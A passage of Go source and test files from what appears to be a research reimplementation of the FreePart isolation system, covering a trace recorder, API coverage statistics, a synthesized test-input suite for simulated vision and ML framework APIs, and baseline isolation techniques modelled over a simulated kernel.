}

// TestEventsAndMetricsAgree polls the paired (event log, metrics snapshot)
// while scale and migration traffic is in flight and demands they always
// explain each other — the regression guard for the snapshot/log race the
// seed had (counters bumped outside the event-log lock, so a mid-migration
// snapshot could count an event the log didn't show).
func TestEventsAndMetricsAgree(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(2, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	var sessions []*core.Session
	for i := 0; i < 4; i++ {
		sessions = append(sessions, ex.Session())
	}

	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < 10; i++ {
			if _, err := ex.Grow(vclock.Duration(i)); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 40; i++ {
			_ = ex.MigrateSession(sessions[i%4].ID, i%2, 0)
		}
	}()

	check := func() {
		events, m := ex.EventsAndMetrics()
		var grows, migrates uint64
		for _, ev := range events {
			switch ev.Kind {
			case "grow":
				grows++
			case "migrate":
				migrates++
			}
		}
		if m.ScaleUps != grows {
			t.Fatalf("snapshot counts %d scale-ups, log shows %d", m.ScaleUps, grows)
		}
		if m.Migrations != migrates {
			t.Fatalf("snapshot counts %d migrations, log shows %d", m.Migrations, migrates)
		}
	}
	for i := 0; i < 200; i++ {
		check()
	}
	wg.Wait()
	check()
}
