package trace_test

import (
	"testing"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
)

func TestRecorderDedup(t *testing.T) {
	r := trace.NewRecorder()
	op := framework.WriteOp(framework.StorageMem, framework.StorageFile)
	r.RecordOp("a", op)
	r.RecordOp("a", op)
	r.RecordOp("a", framework.ReadOp(framework.StorageGUI))
	if got := r.Ops("a"); len(got) != 2 {
		t.Fatalf("ops = %v", got)
	}
	if !r.Has("a") || r.Has("b") {
		t.Fatal("Has wrong")
	}
	if cov := r.Covered(); len(cov) != 1 || cov[0] != "a" {
		t.Fatalf("Covered = %v", cov)
	}
}

func TestRunSuiteCoversMostAPIs(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	r := trace.NewRunner(reg)
	trace.RunSuite(k, r)

	total, covered := 0, 0
	for _, api := range reg.All() {
		total++
		if r.Recorder.Has(api.Name) {
			covered++
		} else {
			t.Logf("uncovered: %s (%v)", api.Name, r.Errors[api.Name])
		}
	}
	if covered*100 < total*75 {
		t.Fatalf("suite covered %d/%d APIs, want >= 75%%", covered, total)
	}
}

func TestSuiteObservesCorrectOps(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	r := trace.NewRunner(reg)
	trace.RunSuite(k, r)

	// imread must show W(MEM, R(FILE)).
	found := false
	for _, op := range r.Recorder.Ops("cv.imread") {
		if op.DstValid && op.Dst == framework.StorageMem && op.Src == framework.StorageFile {
			found = true
		}
	}
	if !found {
		t.Fatalf("imread ops = %v", r.Recorder.Ops("cv.imread"))
	}
	// imshow must show W(GUI, R(MEM)).
	found = false
	for _, op := range r.Recorder.Ops("cv.imshow") {
		if op.DstValid && op.Dst == framework.StorageGUI && op.Src == framework.StorageMem {
			found = true
		}
	}
	if !found {
		t.Fatalf("imshow ops = %v", r.Recorder.Ops("cv.imshow"))
	}
	// GaussianBlur must show only memory ops.
	for _, op := range r.Recorder.Ops("cv.GaussianBlur") {
		if op.Src != framework.StorageMem || !op.DstValid || op.Dst != framework.StorageMem {
			t.Fatalf("GaussianBlur has non-memory op %v", op)
		}
	}
}

func TestCoverageRow(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	r := trace.NewRunner(reg)
	trace.RunSuite(k, r)
	cov := r.CoverageFor(simcv.Name)
	if cov.APITotal < 85 || cov.APICovered < 70 {
		t.Fatalf("coverage = %+v", cov)
	}
	if cov.APIPct() < 75 || cov.APIPct() > 100 {
		t.Fatalf("api pct = %v", cov.APIPct())
	}
	if cov.CodeCoverage < 60 || cov.CodeCoverage > 100 {
		t.Fatalf("code coverage = %v", cov.CodeCoverage)
	}
}

func TestCoverageEmptyFramework(t *testing.T) {
	r := trace.NewRunner(framework.NewRegistry())
	cov := r.CoverageFor("nope")
	if cov.APIPct() != 0 || cov.CodeCoverage != 0 {
		t.Fatalf("empty coverage = %+v", cov)
	}
}

func TestRunAPISyscallObservation(t *testing.T) {
	k := kernel.New()
	trace.SetupSuiteInputs(k)
	reg := all.Registry()
	r := trace.NewRunner(reg)
	api := reg.MustGet("cv.imread")
	p := k.Spawn("probe")
	ctx := framework.NewCtx(k, p)
	ctx.Tracer = r.Recorder
	if _, err := api.Exec(ctx, []framework.Value{framework.Str("/suite/img.img")}); err != nil {
		t.Fatal(err)
	}
	obs := trace.SyscallsObserved(p)
	want := map[kernel.Sysno]bool{kernel.SysOpenat: true, kernel.SysRead: true}
	got := map[kernel.Sysno]bool{}
	for _, s := range obs {
		got[s] = true
	}
	for s := range want {
		if !got[s] {
			t.Errorf("missing observed syscall %s in %v", s, obs)
		}
	}
}
