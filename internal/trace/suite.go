package trace

import (
	"fmt"
	"strings"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/framework/simflow"
	"freepart.dev/freepart/internal/framework/simtorch"
	"freepart.dev/freepart/internal/kernel"
)

// Builder synthesizes arguments for one API invocation during the dynamic
// analysis run (the "frameworks' examples and test cases" of §4.2.2).
type Builder func(ctx *framework.Ctx) ([]framework.Value, error)

// SetupSuiteInputs provisions the kernel with every file, device, and
// network payload the test suite needs.
func SetupSuiteInputs(k *kernel.Kernel) {
	img, _ := simcv.EncodeImage(8, 8, 1, suitePattern(64))
	k.FS.WriteFile("/suite/img.img", img)
	color, _ := simcv.EncodeImage(8, 8, 3, suitePattern(192))
	k.FS.WriteFile("/suite/color.img", color)
	k.FS.WriteFile("/suite/model.xml", simcv.EncodeClassifier(100, 4))
	k.FS.WriteFile("/suite/blob.bin", suitePattern(64))
	k.FS.WriteFile("/suite/net.prototxt", []byte("fc1 4\nfc2 2\n"))
	k.FS.WriteFile("/suite/weights.caffemodel", make([]byte, 32))
	k.FS.WriteFile("/suite/model.pt", simtorch.EncodeModel([][]float64{{1, 0, 0, 1}}))
	mnist := make([]float64, 64*2)
	for i := range mnist {
		mnist[i] = float64(i % 7)
	}
	k.FS.WriteFile("/suite/mnist/mnist.bin", simflow.EncodeDataset(mnist))
	k.FS.WriteFile("/suite/ds/a.bin", simflow.EncodeDataset([]float64{1, 2, 3}))
	k.FS.WriteFile("/suite/flow.flo", suiteFlow())

	cam := kernel.NewCamera("/dev/camera0")
	for i := 0; i < 8; i++ {
		frame, _ := simcv.EncodeImage(8, 8, 1, suitePattern(64))
		cam.Push(frame)
	}
	k.AddCamera(cam)

	for i := 0; i < 4; i++ {
		k.Net.QueueInbound("hub.pytorch.org", simtorch.EncodeModel([][]float64{{1}}))
		k.Net.QueueInbound("storage.googleapis.com", suitePattern(32))
	}
	for i := 0; i < 8; i++ {
		k.GUI.PushKey('q')
	}
}

// suitePattern returns n deterministic bytes with a mix of bright and dark
// regions (so detectors, contours, and edges all fire).
func suitePattern(n int) []byte {
	out := make([]byte, n)
	for i := range out {
		if (i/8+i%8)%3 == 0 {
			out[i] = 230
		} else {
			out[i] = byte(i * 5 % 97)
		}
	}
	return out
}

// suiteFlow builds an encoded optical-flow file via the public simcv APIs
// (write through a scratch run would be circular, so craft bytes directly).
func suiteFlow() []byte {
	// rows=2, cols=2 -> 8 float64 zeros after the header.
	out := []byte("FLO1")
	out = append(out, 0, 0, 0, 2, 0, 0, 0, 2)
	out = append(out, make([]byte, 8*8)...)
	return out
}

// mat builds an 8x8 single-channel mat value with the suite pattern.
func mat(ctx *framework.Ctx) (framework.Value, error) {
	id, _, err := ctx.NewMatFromBytes(8, 8, 1, suitePattern(64))
	return framework.Obj(id), err
}

// tensor2 builds a 4x4 tensor value.
func tensor2(ctx *framework.Ctx) (framework.Value, error) {
	id, t, err := ctx.NewTensor(4, 4)
	if err != nil {
		return framework.Nil(), err
	}
	vals := make([]float64, 16)
	for i := range vals {
		vals[i] = float64(i)
	}
	return framework.Obj(id), t.SetValues(vals)
}

// kernel3 builds a 3x3 averaging kernel tensor.
func kernel3(ctx *framework.Ctx) (framework.Value, error) {
	id, t, err := ctx.NewTensor(3, 3)
	if err != nil {
		return framework.Nil(), err
	}
	return framework.Obj(id), t.SetValues([]float64{1, 1, 1, 1, 1, 1, 1, 1, 1})
}

// oneMat wraps a single-mat argument list.
func oneMat(ctx *framework.Ctx) ([]framework.Value, error) {
	v, err := mat(ctx)
	return []framework.Value{v}, err
}

// twoMats wraps a two-mat argument list.
func twoMats(ctx *framework.Ctx) ([]framework.Value, error) {
	a, err := mat(ctx)
	if err != nil {
		return nil, err
	}
	b, err := mat(ctx)
	return []framework.Value{a, b}, err
}

// oneTensor wraps a single-tensor argument list.
func oneTensor(ctx *framework.Ctx) ([]framework.Value, error) {
	v, err := tensor2(ctx)
	return []framework.Value{v}, err
}

// twoTensors wraps a two-tensor argument list.
func twoTensors(ctx *framework.Ctx) ([]framework.Value, error) {
	a, err := tensor2(ctx)
	if err != nil {
		return nil, err
	}
	b, err := tensor2(ctx)
	return []framework.Value{a, b}, err
}

// contours builds (contourTensor, 0) via a 2x5 synthetic contour table.
func contours(ctx *framework.Ctx) ([]framework.Value, error) {
	id, t, err := ctx.NewTensor(2, 5)
	if err != nil {
		return nil, err
	}
	if err := t.SetValues([]float64{1, 1, 3, 3, 9, 5, 5, 6, 6, 4}); err != nil {
		return nil, err
	}
	return []framework.Value{framework.Obj(id), framework.Int64(0)}, nil
}

// Builders returns the per-API argument builders for the full suite.
// Unlisted APIs fall back to defaults in DefaultBuilder.
func Builders() map[string]Builder {
	b := map[string]Builder{
		"cv.imread": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/img.img")}, nil
		},
		"cv.cvLoad": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/blob.bin")}, nil
		},
		"cv.readOpticalFlow": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/flow.flo")}, nil
		},
		"cv.VideoCapture": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Int64(0)}, nil
		},
		"cv.VideoCapture.read": func(ctx *framework.Ctx) ([]framework.Value, error) {
			h, _, err := ctx.NewBlob([]byte("/dev/camera0"))
			return []framework.Value{framework.Obj(h)}, err
		},
		"cv.CascadeClassifier": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/model.xml")}, nil
		},
		"cv.CascadeClassifier.detectMultiScale": func(ctx *framework.Ctx) ([]framework.Value, error) {
			model, err := ctx.K.FS.ReadFile("/suite/model.xml")
			if err != nil {
				return nil, err
			}
			h, _, err := ctx.NewBlob(model)
			if err != nil {
				return nil, err
			}
			m, err := mat(ctx)
			return []framework.Value{framework.Obj(h), m}, err
		},
		"cv.imshow": func(ctx *framework.Ctx) ([]framework.Value, error) {
			m, err := mat(ctx)
			return []framework.Value{framework.Str("suite"), m}, err
		},
		"cv.imwrite": func(ctx *framework.Ctx) ([]framework.Value, error) {
			m, err := mat(ctx)
			return []framework.Value{framework.Str("/suite/out.img"), m}, err
		},
		"cv.writeOpticalFlow": func(ctx *framework.Ctx) ([]framework.Value, error) {
			id, t, err := ctx.NewTensor(2, 2, 2)
			if err != nil {
				return nil, err
			}
			if err := t.SetValues(make([]float64, 8)); err != nil {
				return nil, err
			}
			return []framework.Value{framework.Str("/suite/out.flo"), framework.Obj(id)}, nil
		},
		"cv.VideoWriter": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/out.vid")}, nil
		},
		"cv.VideoWriter.write": func(ctx *framework.Ctx) ([]framework.Value, error) {
			h, _, err := ctx.NewBlob([]byte("/suite/out.vid"))
			if err != nil {
				return nil, err
			}
			m, err := mat(ctx)
			return []framework.Value{framework.Obj(h), m}, err
		},
		"cv.filter2D": func(ctx *framework.Ctx) ([]framework.Value, error) {
			m, err := mat(ctx)
			if err != nil {
				return nil, err
			}
			k, err := kernel3(ctx)
			return []framework.Value{m, k}, err
		},
		"cv.warpPerspective": warpBuilder,
		"cv.warpAffine":      warpBuilder,
		"cv.remap": func(ctx *framework.Ctx) ([]framework.Value, error) {
			m, err := mat(ctx)
			if err != nil {
				return nil, err
			}
			id, t, err := ctx.NewTensor(8, 8, 2)
			if err != nil {
				return nil, err
			}
			if err := t.SetValues(make([]float64, 128)); err != nil {
				return nil, err
			}
			return []framework.Value{m, framework.Obj(id)}, nil
		},
		"cv.getPerspectiveTransform": quadBuilder,
		"cv.getAffineTransform":      quadBuilder,
		"cv.boundingRect":            contours,
		"cv.contourArea":             contours,
		"cv.drawContours": func(ctx *framework.Ctx) ([]framework.Value, error) {
			m, err := mat(ctx)
			if err != nil {
				return nil, err
			}
			cs, err := contours(ctx)
			if err != nil {
				return nil, err
			}
			return []framework.Value{m, cs[0]}, nil
		},
		"cv.compareHist": func(ctx *framework.Ctx) ([]framework.Value, error) {
			mk := func() (framework.Value, error) {
				id, t, err := ctx.NewTensor(256)
				if err != nil {
					return framework.Nil(), err
				}
				return framework.Obj(id), t.SetFlat(10, 5)
			}
			a, err := mk()
			if err != nil {
				return nil, err
			}
			b, err := mk()
			if err != nil {
				return nil, err
			}
			return []framework.Value{a, b}, nil
		},
		"cv.BFMatcher.match": twoTensors,
		"cv.KalmanFilter.predict": func(ctx *framework.Ctx) ([]framework.Value, error) {
			id, t, err := ctx.NewTensor(4)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, t.SetValues([]float64{1, 2, 0.5, 0.5})
		},
		"cv.KalmanFilter.correct": func(ctx *framework.Ctx) ([]framework.Value, error) {
			id, t, err := ctx.NewTensor(4)
			if err != nil {
				return nil, err
			}
			if err := t.SetValues([]float64{1, 2, 0.5, 0.5}); err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id), framework.Float64(2), framework.Float64(3)}, nil
		},

		// simtorch
		"torch.load": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/model.pt")}, nil
		},
		"torch.hub.load": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("suite-model")}, nil
		},
		"torchvision.datasets.MNIST": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/mnist")}, nil
		},
		"torch.utils.data.DataLoader": func(ctx *framework.Ctx) ([]framework.Value, error) {
			id, t, err := ctx.NewTensor(4, 64)
			if err != nil {
				return nil, err
			}
			if err := t.SetValues(make([]float64, 256)); err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id), framework.Int64(2)}, nil
		},
		"torch.tensor": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Int64(8), framework.Float64(1)}, nil
		},
		"torch.matmul": matmulBuilder,
		"torch.nn.Conv2d": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			if err != nil {
				return nil, err
			}
			k, err := kernel3(ctx)
			return []framework.Value{in, k}, err
		},
		"torch.reshape": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Int64(2), framework.Int64(8)}, err
		},
		"torch.Module.forward": func(ctx *framework.Ctx) ([]framework.Value, error) {
			raw, err := ctx.K.FS.ReadFile("/suite/model.pt")
			if err != nil {
				return nil, err
			}
			h, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			id, t, err := ctx.NewTensor(2)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(h), framework.Obj(id)}, t.SetValues([]float64{1, 2})
		},
		"torch.optim.SGD.step": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return twoTensors(ctx)
		},
		"torch.save": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Str("/suite/out.pt")}, err
		},
		"torch.utils.tensorboard.SummaryWriter": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/runs"), framework.Float64(0.5)}, nil
		},

		// simflow
		"tf.keras.utils.get_file": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("suite.bin")}, nil
		},
		"tf.keras.preprocessing.image_dataset_from_directory": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/ds/")}, nil
		},
		"tf.io.read_file": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/blob.bin")}, nil
		},
		"tf.nn.conv3d": func(ctx *framework.Ctx) ([]framework.Value, error) {
			id, t, err := ctx.NewTensor(3, 3, 3)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, t.SetValues(make([]float64, 27))
		},
		"tf.matmul": matmulBuilder,
		"tf.one_hot": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Int64(1), framework.Int64(4)}, nil
		},
		"tf.image.resize": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Int64(2), framework.Int64(2)}, err
		},
		"tf.estimator.DNNClassifier.train": func(ctx *framework.Ctx) ([]framework.Value, error) {
			sid, st, err := ctx.NewTensor(2)
			if err != nil {
				return nil, err
			}
			if err := st.SetValues([]float64{0, 0}); err != nil {
				return nil, err
			}
			d, err := tensor2(ctx)
			return []framework.Value{framework.Obj(sid), d}, err
		},
		"tf.debugging.experimental.enable_dump_debug_info": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/tfdbg")}, nil
		},
		"tf.keras.Model.save_weights": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Str("/suite/w.bin")}, err
		},
		"tf.keras.preprocessing.image.save_img": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Str("/suite/out.png")}, err
		},

		// simcaffe
		"caffe.ReadProtoFromTextFile": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/net.prototxt")}, nil
		},
		"caffe.ReadProtoFromBinaryFile": func(ctx *framework.Ctx) ([]framework.Value, error) {
			return []framework.Value{framework.Str("/suite/weights.caffemodel")}, nil
		},
		"caffe.Net": func(ctx *framework.Ctx) ([]framework.Value, error) {
			raw, err := ctx.K.FS.ReadFile("/suite/net.prototxt")
			if err != nil {
				return nil, err
			}
			h, _, err := ctx.NewBlob(raw)
			return []framework.Value{framework.Obj(h)}, err
		},
		"caffe.Net.Forward": func(ctx *framework.Ctx) ([]framework.Value, error) {
			w, err := tensor2(ctx)
			if err != nil {
				return nil, err
			}
			id, t, err := ctx.NewTensor(4)
			if err != nil {
				return nil, err
			}
			return []framework.Value{w, framework.Obj(id)}, t.SetValues([]float64{1, 2, 3, 4})
		},
		"caffe.Net.CopyTrainedLayersFrom": func(ctx *framework.Ctx) ([]framework.Value, error) {
			w, err := tensor2(ctx)
			if err != nil {
				return nil, err
			}
			h, _, err := ctx.NewBlob(make([]byte, 32))
			return []framework.Value{w, framework.Obj(h)}, err
		},
		"caffe.SGDSolver.Step": twoTensors,
		"caffe.Blob.Reshape": func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Int64(2), framework.Int64(8)}, err
		},
	}
	for _, name := range []string{"caffe.WriteProtoToTextFile", "caffe.hdf5_save_string", "caffe.Solver.Snapshot"} {
		n := name
		b[n] = func(ctx *framework.Ctx) ([]framework.Value, error) {
			in, err := tensor2(ctx)
			return []framework.Value{in, framework.Str("/suite/" + n)}, err
		}
	}
	return b
}

func warpBuilder(ctx *framework.Ctx) ([]framework.Value, error) {
	m, err := mat(ctx)
	if err != nil {
		return nil, err
	}
	id, t, err := ctx.NewTensor(3, 3)
	if err != nil {
		return nil, err
	}
	if err := t.SetValues([]float64{1, 0, 0, 0, 1, 0, 0, 0, 1}); err != nil {
		return nil, err
	}
	return []framework.Value{m, framework.Obj(id)}, nil
}

func quadBuilder(ctx *framework.Ctx) ([]framework.Value, error) {
	mk := func(base float64) (framework.Value, error) {
		id, t, err := ctx.NewTensor(8)
		if err != nil {
			return framework.Nil(), err
		}
		vals := make([]float64, 8)
		for i := range vals {
			vals[i] = base + float64(i)
		}
		return framework.Obj(id), t.SetValues(vals)
	}
	a, err := mk(0)
	if err != nil {
		return nil, err
	}
	b, err := mk(10)
	if err != nil {
		return nil, err
	}
	return []framework.Value{a, b}, nil
}

func matmulBuilder(ctx *framework.Ctx) ([]framework.Value, error) {
	return twoTensors(ctx)
}

// binaryMats lists simcv APIs taking two mat arguments.
var binaryMats = map[string]bool{
	"cv.bitwise_and": true, "cv.bitwise_or": true, "cv.bitwise_xor": true,
	"cv.add": true, "cv.subtract": true, "cv.absdiff": true, "cv.max": true,
	"cv.min": true, "cv.compare": true, "cv.addWeighted": true,
	"cv.matchTemplate": true, "cv.phaseCorrelate": true,
	"cv.calcOpticalFlowFarneback": true, "cv.matchShapes": true,
}

// DefaultBuilder synthesizes arguments for APIs without an explicit entry:
// simcv APIs get mats, tensor frameworks get tensors.
func DefaultBuilder(api *framework.API) Builder {
	if strings.HasPrefix(api.Name, "cv.") {
		if binaryMats[api.Name] {
			return twoMats
		}
		return oneMat
	}
	return oneTensor
}

// RunSuite executes the full dynamic analysis: every API in the registry,
// with suite inputs provisioned, under the runner's recorder.
func RunSuite(k *kernel.Kernel, r *Runner) {
	SetupSuiteInputs(k)
	builders := Builders()
	for _, api := range r.Registry.All() {
		b, ok := builders[api.Name]
		if !ok {
			b = DefaultBuilder(api)
		}
		if _, err := r.RunAPI(k, api, b); err != nil {
			r.Errors[api.Name] = fmt.Errorf("suite: %s: %w", api.Name, err)
		}
	}
}
