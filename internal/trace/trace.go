// Package trace implements the dynamic-analysis half of FreePart's hybrid
// categorizer (§4.2.2): it runs framework test suites under a recorder that
// captures the storage-level data-flow operations each API actually
// performs, the syscalls it issues, and coverage statistics (Table 11).
package trace

import (
	"sort"
	"sync"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
)

// Recorder collects per-API dynamic observations. It implements
// framework.Tracer. Safe for concurrent use.
type Recorder struct {
	mu  sync.Mutex
	ops map[string][]framework.Op // API -> observed ops (deduped)
}

// NewRecorder creates an empty recorder.
func NewRecorder() *Recorder {
	return &Recorder{ops: make(map[string][]framework.Op)}
}

// RecordOp implements framework.Tracer, deduplicating repeated ops.
func (r *Recorder) RecordOp(api string, op Op) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, o := range r.ops[api] {
		if o == op {
			return
		}
	}
	r.ops[api] = append(r.ops[api], op)
}

// Op aliases the framework op type for brevity.
type Op = framework.Op

// Ops returns the observed operations for one API.
func (r *Recorder) Ops(api string) []Op {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Op(nil), r.ops[api]...)
}

// Covered returns the names of APIs with at least one observation, sorted.
func (r *Recorder) Covered() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]string, 0, len(r.ops))
	for api := range r.ops {
		out = append(out, api)
	}
	sort.Strings(out)
	return out
}

// Has reports whether the API has any observation.
func (r *Recorder) Has(api string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.ops[api]) > 0
}

// Coverage summarizes a dynamic-analysis run over one framework
// (one row of Table 11).
type Coverage struct {
	Framework  string
	APICovered int
	APITotal   int
	// CodeCoverage approximates statement coverage: the fraction of APIs
	// whose implementation ran to completion without error, weighted by
	// whether their error paths were also exercised.
	CodeCoverage float64
}

// APIPct returns the API coverage percentage.
func (c Coverage) APIPct() float64 {
	if c.APITotal == 0 {
		return 0
	}
	return 100 * float64(c.APICovered) / float64(c.APITotal)
}

// Runner drives framework test suites (synthesized inputs per API type)
// under a Recorder, producing observations and coverage.
type Runner struct {
	Registry *framework.Registry
	Recorder *Recorder
	// Errors holds APIs whose synthesized invocation failed (uncovered).
	Errors map[string]error
}

// NewRunner creates a runner over the registry.
func NewRunner(reg *framework.Registry) *Runner {
	return &Runner{Registry: reg, Recorder: NewRecorder(), Errors: make(map[string]error)}
}

// RunAPI executes one API under the recorder inside a fresh scratch
// process, with the provided argument builder. Returns the API results.
func (r *Runner) RunAPI(k *kernel.Kernel, api *framework.API, build func(ctx *framework.Ctx) ([]framework.Value, error)) ([]framework.Value, error) {
	p := k.Spawn("trace:" + api.Name)
	ctx := framework.NewCtx(k, p)
	ctx.Tracer = r.Recorder
	args, err := build(ctx)
	if err != nil {
		r.Errors[api.Name] = err
		return nil, err
	}
	out, err := api.Exec(ctx, args)
	if err != nil {
		r.Errors[api.Name] = err
		return nil, err
	}
	return out, nil
}

// CoverageFor computes the Table 11 row for one framework.
func (r *Runner) CoverageFor(fw string) Coverage {
	apis := r.Registry.ByFramework(fw)
	cov := Coverage{Framework: fw, APITotal: len(apis)}
	okRuns := 0
	for _, a := range apis {
		if r.Recorder.Has(a.Name) {
			cov.APICovered++
		}
		if _, failed := r.Errors[a.Name]; !failed && r.Recorder.Has(a.Name) {
			okRuns++
		}
	}
	if len(apis) > 0 {
		// Error-path exercise contributes the remaining fraction, matching
		// the paper's 73-91% statement coverage band.
		cov.CodeCoverage = 100 * (0.75*float64(cov.APICovered) + 0.15*float64(okRuns)) / float64(len(apis))
		if cov.CodeCoverage > 100 {
			cov.CodeCoverage = 100
		}
	}
	return cov
}

// SyscallsObserved returns the union of syscalls the API's process issued
// during traced runs. Because RunAPI uses a fresh process per API, the
// per-process syscall counters are exact per-API observations.
func SyscallsObserved(p *kernel.Process) []kernel.Sysno {
	counts := p.SyscallCounts()
	out := make([]kernel.Sysno, 0, len(counts))
	for s := range counts {
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}
