// Package baseline implements the five isolation techniques FreePart is
// compared against (§3.1, Tables 1, 9, 10):
//
//  1. Code-based API isolation — host code partitioned; vulnerable APIs
//     isolated but critical data co-resident with them.
//  2. Code-based API & data isolation — additionally moves each critical
//     variable into its own process; every access becomes an IPC.
//  3. Library-based isolation for the entire library — two processes,
//     every API call crosses, data shared via shared memory.
//  4. Library-based isolation for individual APIs — one process per API,
//     full argument data transferred on every call.
//  5. Memory-based isolation — single process, critical data read-only.
//
// Every technique is a real executor over the simulated substrate: APIs
// execute in their assigned process's address space with accounted IPCs
// and data transfers, so both the performance numbers (Table 9) and the
// attack outcomes (Table 1) emerge from the mechanism rather than from
// hardcoded verdicts.
package baseline

import (
	"fmt"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/object"
)

// Kind enumerates the comparison techniques.
type Kind int

// Techniques, in Table 1 row order.
const (
	CodeAPI Kind = iota
	CodeAPIData
	LibraryEntire
	LibraryPerAPI
	MemoryBased
)

// String names the technique as Table 1 does.
func (k Kind) String() string {
	switch k {
	case CodeAPI:
		return "Code-based API"
	case CodeAPIData:
		return "Code-based API & Data"
	case LibraryEntire:
		return "Library-based Entire Library"
	case LibraryPerAPI:
		return "Library-based Individual APIs"
	case MemoryBased:
		return "Memory-based"
	default:
		return fmt.Sprintf("technique(%d)", int(k))
	}
}

// System is a baseline isolation deployment: processes, the API→process
// map, critical-data placement, and accounting. It implements
// core.Caller so the evaluation apps run on it unchanged.
type System struct {
	Kind    Kind
	K       *kernel.Kernel
	Reg     *framework.Registry
	Metrics *metrics.Counters

	host    *kernel.Process
	hostCtx *framework.Ctx
	procs   []*kernel.Process
	ctxs    []*framework.Ctx
	// homeOf maps API name → index into procs; -1 means the host process.
	homeOf map[string]int
	// sharedData marks techniques where object payloads do not travel on
	// cross-process calls (shared memory, Fig. 2-(c)).
	sharedData bool
	// criticals tracks named critical variables and their placement.
	criticals map[string]critical
	// codeOf places each API's code region (for rewrite attacks).
	codeOf map[string]codeLoc
	// owners maps global handle ids to (context, table id).
	owners   map[uint64]ownerRef
	globalID uint64
}

// nextGlobal mints a fresh global handle id.
func (s *System) nextGlobal() uint64 {
	s.globalID++
	return s.globalID
}

type critical struct {
	proc   *kernel.Process
	region mem.Region
}

type codeLoc struct {
	proc   *kernel.Process
	region mem.Region
}

// Host returns the host program's process.
func (s *System) Host() *kernel.Process { return s.host }

// HostSpace exposes the host space (used by apps.hostSpaceOf).
func (s *System) HostSpace() *mem.AddressSpace { return s.host.Space() }

// HostContext exposes the host execution context (used by apps.Env).
func (s *System) HostContext() *framework.Ctx { return s.hostCtx }

// Processes returns every process (host first).
func (s *System) Processes() []*kernel.Process {
	return append([]*kernel.Process{s.host}, s.procs...)
}

// HomeOf returns the process executing the given API.
func (s *System) HomeOf(api string) *kernel.Process {
	if i, ok := s.homeOf[api]; ok && i >= 0 {
		return s.procs[i]
	}
	return s.host
}

// ctxOf returns the execution context of the API's home process.
func (s *System) ctxOf(api string) *framework.Ctx {
	if i, ok := s.homeOf[api]; ok && i >= 0 {
		return s.ctxs[i]
	}
	return s.hostCtx
}

// InstallExploitHandler attaches the exploit handler to every context.
func (s *System) InstallExploitHandler(h framework.ExploitFunc) {
	s.hostCtx.OnExploit = h
	for _, c := range s.ctxs {
		c.OnExploit = h
	}
}

